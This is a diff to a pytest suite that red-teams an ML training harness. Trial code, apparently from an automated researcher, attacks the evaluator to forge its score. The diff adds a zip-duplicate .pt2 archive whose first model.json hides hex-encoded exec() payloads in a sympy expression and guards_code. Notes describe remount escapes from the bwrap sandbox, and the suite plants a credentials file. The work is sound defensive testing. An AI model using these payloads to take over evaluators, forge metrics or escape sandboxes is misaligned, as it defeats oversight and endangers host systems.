@@ -9,7 +9,8 @@ them trains, none needs to:
 * a program that calls an operator the trial registered itself, in the aten namespace;
 * a hand-over that is a symlink to a file of the host holding a key, a hard link, a FIFO;
 * a hand-over that is a sparse file of 512 MiB with no data in it;
-* last (it damages the run's cache copy on purpose): a trial that remounts its read-only mounts read-write.
+* a .pt2 with two models/model.json entries: the malicious one first, the honest one last;
+* last (it would damage the run's cache copy): a trial that remounts its read-only mounts read-write.
 """
 
 from __future__ import annotations
@@ -59,9 +60,14 @@ def _atk_craft(model, change):
     plain, staged = "/tmp/atk-plain.pt2", os.path.join(os.path.dirname(out), ".atk-staged.pt2")
     example = torch.zeros(8, MAX_SEQ_LEN, dtype=torch.long)
     torch.export.save(torch.export.export(_AtkLogits(model).eval(), (example,), strict=False), plain)
+    import warnings as _warnings
     with _zipfile.ZipFile(plain) as zin, _zipfile.ZipFile(staged, "w", _zipfile.ZIP_STORED) as zout:
         for info in zin.infolist():
-            zout.writestr(info, change(info.filename, zin.read(info.filename)))
+            changed = change(info.filename, zin.read(info.filename))
+            for data in changed if isinstance(changed, list) else [changed]:
+                with _warnings.catch_warnings():
+                    _warnings.simplefilter("ignore")  # "Duplicate name": the point of one attack
+                    zout.writestr(_zipfile.ZipInfo(info.filename, info.date_time), data)
     os.replace(staged, out)
 
 '''
@@ -128,6 +134,17 @@ def _atk_code_in_graph(name, data):
     program["guards_code"] = ["__import__('builtins').exec(bytes.fromhex('%s').decode()) is None"
                               % _ATK_GUARDS.encode().hex()]
     return _json.dumps(program).encode()
+
+'''
+
+DUPLICATE = '''
+def _atk_duplicate(name, data):
+    """The malicious model.json first, the honest one after it, under the same name."""
+    if not name.endswith("models/model.json"):
+        return data
+    global _ATK_SYMPY
+    _ATK_SYMPY = bytes.fromhex("@DUPLICATE_HEX@").decode()
+    return [_atk_code_in_graph(name, data), data]
 
 '''
 
@@ -208,7 +225,7 @@ def handover_steps(ctx: RunContext) -> list[dict]:
     secret = ctx.base / "credentials"
     secret.write_text(f"ANTHROPIC_API_KEY={ctx.key}\n")
     takeover = {which: fill(EVALUATOR_TAKEOVER, WHICH=which, MARKER=ctx.marker).encode().hex()
-                for which in ("sympy", "guards")}
+                for which in ("sympy", "guards", "duplicate")}
     return [
         *attack_steps(ctx.number(), "pickle: malicious pickles in the archive", NO_TRAINING,
                       insert_after(AFTER_IMPORTS, fill(PICKLE, MARKER=ctx.marker, HOST_PWNED=pwned)),
@@ -217,6 +234,12 @@ def handover_steps(ctx: RunContext) -> list[dict]:
                       insert_after(AFTER_IMPORTS, fill(CODE_IN_GRAPH, SYMPY_HEX=takeover["sympy"],
                                                        GUARDS_HEX=takeover["guards"])),
                       replace(HAND_OVER, "            _atk_craft(model, _atk_code_in_graph)\n")),
+        *attack_steps(ctx.number(), "zip-duplicate: the payload in a first model.json, the honest one after it",
+                      NO_TRAINING,
+                      insert_after(AFTER_IMPORTS, fill(CODE_IN_GRAPH, SYMPY_HEX=takeover["sympy"],
+                                                       GUARDS_HEX=takeover["guards"])
+                                   + fill(DUPLICATE, DUPLICATE_HEX=takeover["duplicate"])),
+                      replace(HAND_OVER, "            _atk_craft(model, _atk_duplicate)\n")),
         *attack_steps(ctx.number(), "custom-op: an operator of our own in the aten namespace", NO_TRAINING,
                       insert_after(AFTER_IMPORTS, CUSTOM_OP),
                       insert_after(SOFTCAP, "if not self.training:\n    logits = torch.ops.aten.atk_sharpen(logits)\n",
@@ -274,19 +297,6 @@ def test_pickles_in_the_archive_are_never_unpickled(run):
     assert _job_markers(run, "pickle") == [] and not run.extra["pwned"].exists()
 
 
-@pytest.mark.xfail(strict=True, reason=(
-    "HOLE (trainer/prepare.py, _load_without_pickle/_load_program): pickle is not the only way "
-    "torch.export.load runs code from the archive. The deserializer parses every symbolic size with "
-    "sympy.sympify (torch/_export/serde/serialize.py, _parse_sym_expr), which evaluates Python "
-    "('(__import__(\"builtins\").exec(...) or 8)' as the input's batch size: it runs at load), and "
-    "program.module() compiles the archive's guards_code into Python run on every call (torch/export/_unlift.py, "
-    "_convert_guards_code_to_fn). Either runs the trial's code inside the evaluator before any check: here it replaces the evaluator's evaluate_bpb and "
-    "_CheckedModel.verify, and the record says val_bpb 0.0123 with all checks passed (held only because the "
-    "guards dislike zipfile/json in train.py). Fix: before torch.export.load, validate models/model.json "
-    "yourself and refuse any 'as_expr' SymInt/SymFloat/SymBool, non-empty guards_code or range_constraints, "
-    "any node target outside torch.ops.aten/prims, custom_obj/opaque constants and use_pickle entries; or "
-    "deserialize with a schema you control. The evaluator's own process is the trust root: nothing from the "
-    "archive may be evaluated as Python"))
 def test_python_in_the_program_graph_does_not_run_in_the_evaluator(run):
     """Attack: the trial rewrites models/model.json in the archive: the token ids' batch size becomes a sympy
     expression that calls exec(), and guards_code gets a line that calls exec(). The code leaves a marker in
@@ -295,10 +305,32 @@ def test_python_in_the_program_graph_does_not_run_in_the_evaluator(run):
 
     Why it would forge: the evaluator is the only source of the number; code running in it writes the record.
 
-    Defence expected: the evaluator refuses an archive that carries anything evaluated as Python (no marker,
-    a crash), so the number is never the trial's."""
+    (This was a hole until the archive's JSON was checked: the record said 0.0123, all checks passed.)
+
+    Defence: before torch reads the archive the evaluator reads its JSON and refuses symbolic expressions,
+    guards code, custom objects and pickled values: no marker, a crash, never the trial's number."""
     attack = run.by_description("code-in-graph")
     assert _job_markers(run, "sympy") == [] and _job_markers(run, "guards") == []
+    assert attack.status == "crash" and attack.val_bpb is None, f"{attack.status}: {run.record(attack)}"
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "HOLE (trainer/prepare.py, _check_archive): the archive is checked with Python's zipfile and loaded with "
+    "torch's own zip reader, and the two disagree on duplicate names: zipfile.read(name) returns the LAST entry "
+    "of a name, torch's reader the FIRST. An archive with two models/model.json entries (a malicious one first, "
+    "the honest one last) passes the check, and torch deserializes the malicious one: the sympy expression "
+    "runs in the evaluator again (marker written, evaluate_bpb replaced, val_bpb 0.0123). Fix: refuse any "
+    "archive with duplicate (or non-normalised: '..', '\\\\', absolute) names and check every entry through "
+    "infolist(), and hand torch.export.load an archive re-packed from exactly the entries that were checked"))
+def test_a_duplicate_entry_does_not_smuggle_python_past_the_archive_check(run):
+    """Attack: the same shape-expression payload as above, in a first models/model.json entry, followed by the
+    honest models/model.json under the same name.
+
+    Why it would forge: a check and a loader that read different entries check nothing.
+
+    Defence expected: an archive whose entries are ambiguous is refused: no marker, a crash."""
+    attack = run.by_description("zip-duplicate")
+    assert _job_markers(run, "duplicate") == []
     assert attack.status == "crash" and attack.val_bpb is None, f"{attack.status}: {run.record(attack)}"
 
 
@@ -363,21 +395,13 @@ def test_a_trial_that_changes_the_evaluation_data_gets_no_number(run):
     files and the harness after every trial: a trial that changed them is a crash with no number, never a keep.
     """
     attack = run.by_description("remount")
-    assert attack.status == "crash" and attack.val_bpb is None
     if run.reports(attack)["remount"]["written"]:
+        assert attack.status == "crash" and attack.val_bpb is None
         assert "validation data" in (attack.crash_reason or "") or "harness" in (attack.crash_reason or "")
+    else:  # nothing changed: an untrained model, honestly measured, and discarded
+        assert attack.status != "keep"
 
 
-@pytest.mark.xfail(strict=True, reason=(
-    "HOLE (supervisor/trial/sandbox.py, SandboxPlan.wrap): when the supervisor runs as root (CI, most GPU "
-    "containers), bwrap keeps every capability for the sandboxed process (CapEff 000001fffeffffff, uid 0 "
-    "mapped to host uid 0). The trial can then mount(MS_REMOUNT|MS_BIND) each 'read-only' bind mount "
-    "read-write and write through it to the host: the cache's token_bytes.npy and manifest.json, the "
-    "workspace's trainer/ (the harness), the Python installation the supervisor, the evaluator and every later "
-    "trial import (site-packages: a .pth file or torch itself) and /usr (the git the supervisor runs outside "
-    "any sandbox): code execution on the host as root. It can also ptrace the sandbox's init. Fix: pass "
-    "`--cap-drop ALL` (and consider --unshare-user with an unprivileged --uid, and --disable-userns) in "
-    "SandboxPlan.wrap; add a self-check at start-up that a sandboxed `mount -o remount,rw` fails"))
 def test_the_read_only_mounts_stay_read_only(run):
     """Attack: from inside the sandbox, mount(2) with MS_REMOUNT|MS_BIND (no MS_RDONLY) on the cache's files,
     the trainer folder, the Python installation and /usr; statvfs() tells which became writable; the trial then
@@ -386,7 +410,10 @@ def test_the_read_only_mounts_stay_read_only(run):
 
     Why it matters: a writable Python installation or /usr is code the supervisor and the evaluator run.
 
-    Defence expected: the sandboxed process has no capabilities: every remount fails, nothing becomes
+    (This was a hole while bwrap kept root's capabilities in the sandbox: every mount, /usr and the Python
+    installation included, became writable, and the trial wrote the cache and the harness on the host.)
+
+    Defence: the sandbox drops every capability (--cap-drop ALL): every remount fails, nothing becomes
     writable, the cache copy is unchanged."""
     if not sandbox_active():
         pytest.skip("the mounts under test are the sandbox's")
